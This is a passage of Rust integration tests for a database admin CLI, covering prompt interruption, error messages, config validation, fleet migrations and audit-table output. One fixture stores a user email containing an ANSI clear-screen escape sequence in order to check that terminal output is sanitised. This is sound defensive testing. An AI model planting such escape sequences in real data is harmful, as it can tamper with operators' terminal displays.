        assert!(
            r.stderr.contains("lock wait timed out") || r.stderr.contains("timed out"),
            "{args:?}: {}",
            r.stderr
        );
    }
    drop(_blocker);
    assert_eq!(pg.dump_all(), before, "nothing written");
}

/// The binary on a pseudo-terminal inside a shell that, after it ends, prints its exit
/// code and the terminal's settings (`stty -a`): what the next command would find.
fn on_tty_then_stty(db: &SqliteDb, args: &str) -> expectrl::session::OsSession {
    pty_shell(
        db,
        "trap true INT; stty echo; \"$0\" \"$@\"; echo \"exit=$?\"; stty -a; echo END",
        args,
    )
}

/// Item 15: Ctrl-C at the hidden password prompt and at a `[y/N]` prompt leaves the
/// terminal as it was: echo on, the cursor shown; exit 130.
#[test]
fn ctrl_c_at_a_prompt_restores_the_terminal() {
    use expectrl::Expect;
    let db = SqliteDb::new();
    db.run(&["migrate", "up"]).expect_code(0);
    db.run(&["create-org", "--id", "org_a", "--name", "A"])
        .expect_code(0);
    Run::from(
        db.cmd()
            .args([
                "create-admin",
                "--org",
                "org_a",
                "--email",
                "o@a.example",
                "--password-stdin",
                "--bcrypt-cost",
                "4",
            ])
            .write_stdin("a strong password 1\n")
            .output()
            .unwrap(),
    )
    .expect_code(0);
    db.query("INSERT INTO users (id, org_id, email, role, created_at) VALUES ('user_00000000000v', 'org_a', 'v@a.example', 'viewer', '2026-01-01 00:00:00')");
    for (args, prompt) in [
        (
            "create-admin --org org_a --email new@a.example --bcrypt-cost 4",
            "assword",
        ),
        ("users set-role v@a.example admin --reason promote", "[y/N]"),
    ] {
        let mut s = on_tty_then_stty(&db, args);
        let before = s.expect(prompt).unwrap();
        let mut seen = String::from_utf8_lossy(before.as_bytes()).into_owned();
        if prompt == "assword" {
            // Wait until the prompt has turned echo off, as a person would.
            while s.get_process().get_echo().unwrap() {
                std::thread::sleep(std::time::Duration::from_millis(5));
            }
        }
        s.send(expectrl::ControlCode::EndOfText).unwrap();
        let rest = s
            .expect("END")
            .unwrap_or_else(|e| panic!("{args}: {e}\n{seen}"));
        seen.push_str(&String::from_utf8_lossy(rest.as_bytes()));
        assert!(seen.contains("exit=130"), "{args}: {seen}");
        let stty = &seen[seen.find("exit=130").unwrap()..];
        assert!(
            stty.split_whitespace().any(|w| w == "echo"),
            "{args}: echo is still off after the run:\n{stty}"
        );
        if let Some(hidden) = seen.rfind("\u{1b}[?25l") {
            assert!(
                seen[hidden..].contains("\u{1b}[?25h"),
                "{args}: the cursor stays hidden:\n{seen:?}"
            );
        }
    }
    assert_eq!(
        db.query("SELECT COUNT(*) FROM users"),
        "2",
        "nothing was written"
    );
}

/// Item 16, the smaller ones: missing arguments are named (also in JSON); a refusal's
/// hint offers --dry-run only to commands that have it; a refused pre-flight says
/// where the database is; `parallel = 0` in the file is refused like `--parallel 0`; a
/// fleet that fails the version gate counts the databases as failed and shows where
/// each came from; the /dev/full hint is the JSON document with its format_version.
#[test]
fn the_smaller_ones() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    // Missing required arguments, named.
    let r = Run::from(bin(d).args(["create-admin"]).output().unwrap());
    r.expect_clean_error(2);
    assert!(
        r.stderr
            .contains("not provided: --org <ORG_ID>, --email <EMAIL>"),
        "{}",
        r.stderr
    );
    let r = Run::from(
        bin(d)
            .args(["--format", "json", "create-admin"])
            .output()
            .unwrap(),
    );
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("--org <ORG_ID>"),
        "{}",
        r.stdout
    );

    let db = AnyDb::Lite(SqliteDb::new());
    db.run(&["migrate", "up", "--to", V1]).expect_code(0);
    // No --dry-run in upgrade's hint; set-role (which has one) keeps it.
    let r = db.run(&["upgrade"]);
    r.expect_clean_error(4);
    assert!(!r.stderr.contains("--dry-run"), "{}", r.stderr);
    // A refused pre-flight on a database at head (drift): it says which.
    db.run(&["migrate", "up"]).expect_code(0);
    db.query("DROP INDEX ix_audit_logs_ts");
    let r = db.run(&["upgrade", "--yes"]);
    r.expect_code(1);
    assert!(!r.stdout.contains("no version (empty)"), "{}", r.stdout);
    assert!(r.stdout.contains(head_revision()), "{}", r.stdout);

    // parallel = 0 in the file, as --parallel 0: exit 2.
    std::fs::write(
        d.join("ecomind-admin.toml"),
        "[environments.f]\nurl = \"sqlite://a.db?mode=rwc\"\nparallel = 0\n",
    )
    .unwrap();
    let r = Run::from(
        bin(d)
            .args(["--env", "f", "migrate", "status"])
            .output()
            .unwrap(),
    );
    r.expect_clean_error(2);
    assert!(
        r.stderr.contains("ecomind-admin.toml:3") && r.stderr.contains("1 to 256"),
        "{}",
        r.stderr
    );

    // A fleet: from empty, each row shows where it came from; at 001, the version gate
    // fails both and counts them as failed.
    std::fs::write(
        d.join("ecomind-admin.toml"),
        "[environments.f]\nurls_env = [\"A\", \"B\"]\n",
    )
    .unwrap();
    let fleet = |args: &[&str]| {
        Run::from(
            bin(d)
                .env("A", "sqlite://a.db?mode=rwc")
                .env("B", "sqlite://b.db?mode=rwc")
                .args(["--env", "f"])
                .args(args)
                .output()
                .unwrap(),
        )
    };
    let r = fleet(&["migrate", "up", "--to", "001"]);
    r.expect_code(0);
    assert!(r.stdout.contains("none -> 001"), "{}", r.stdout);
    let r = fleet(&["migrate", "status", "--format", "json"]);
    r.expect_code(1);
    let j = r.json();
    assert_eq!(
        (j["ok"].as_u64(), j["failed"].as_u64()),
        (Some(0), Some(2)),
        "{j}"
    );
    let r = fleet(&["migrate", "up"]);
    let moved = format!("001 -> {}", head_revision());
    assert!(r.stdout.contains(&moved), "{}", r.stdout);

    // /dev/full: the hint carries the whole document.
    let full = std::fs::File::options()
        .write(true)
        .open("/dev/full")
        .unwrap();
    let out = std_bin(db.dir())
        .env("DATABASE_URL", db.url())
        .args(["--format", "json", "create-org", "--name", "Z"])
        .stdout(full)
        .output()
        .unwrap();
    let r = Run {
        code: out.status.code().unwrap(),
        stdout: String::new(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    };
    assert_eq!(r.code, 6, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("\"format_version\":\"1\",\"command\":\"create-org\""),
        "{}",
        r.stderr
    );
}

/// The binary on a pseudo-terminal of 100 columns; everything it showed.
fn on_terminal(db: &SqliteDb, args: &str) -> String {
    use expectrl::Expect;
    let mut s = pty_shell(
        db,
        "stty cols 100 rows 50; \"$0\" \"$@\"; echo \"exit=$?\"",
        args,
    );
    let out = s.expect(expectrl::Eof).unwrap();
    String::from_utf8_lossy(out.as_bytes()).into_owned()
}

/// Items 13 and 14: piped, CSV carries exact values with valid JSON evidence (the
/// python check of field_safety), and the human audit gives whole values; on a
/// terminal, CSV is escaped, and the audit fits the terminal: no line wider than it,
/// long values cut visibly, evidence on lines of its own.
#[test]
fn csv_and_the_audit_table_suit_their_reader() {
    let db = SqliteDb::new();
    db.run(&["migrate", "up"]).expect_code(0);
    let long = format!("{}@x.example", "l".repeat(10_000));
    db.query(&format!(
        "INSERT INTO orgs (id, name) VALUES ('org_a', 'A'); \
         INSERT INTO users (id, org_id, email, name, role, created_at) VALUES \
         ('user_00000000000l', 'org_a', '{long}', '{}', 'admin', '2026-01-01 00:00:00'), \
         ('user_00000000000e', 'org_a', 'e\u{1b}[2Jvil@x.example', 'e', 'admin', '2026-01-01 00:00:00');",
        "n".repeat(10_000)
    ));
    // Piped: whole values; evidence on its own lines.
    let r = db.run(&["audit", "suspicious-accounts", "--since", "2000-01-01"]);
    assert!(r.stdout.contains(&long), "the whole value, piped");
    assert!(
        r.stdout
            .lines()
            .any(|l| l.trim_start().starts_with("evidence registrations: 0")),
        "{}",
        r.stdout
    );
    let r = db.run(&[
        "audit",
        "suspicious-accounts",
        "--since",
        "2000-01-01",
        "--format",
        "csv",
    ]);
    assert!(
        r.stdout.contains("e\u{1b}[2Jvil@x.example"),
        "exact values piped:\n{}",
        r.stdout
    );
    // On a terminal of 100 columns.
    let shown = on_terminal(&db, "-q audit suspicious-accounts --since 2000-01-01");
    assert!(shown.contains("exit=1"), "{shown}");
    for line in shown.lines() {
        assert!(
            line.trim_end_matches('\r').chars().count() <= 100,
            "wider than the terminal: {line}"
        );
    }
    assert!(shown.contains("…"), "{shown}");
    assert!(!shown.contains('\u{1b}'), "{shown:?}");
    let shown = on_terminal(
        &db,
        "-q audit suspicious-accounts --since 2000-01-01 --format csv",
    );
    assert!(!shown.contains('\u{1b}'), "{shown:?}");
    assert!(shown.contains("e\\u{1b}[2Jvil@x.example"), "{shown}");
}
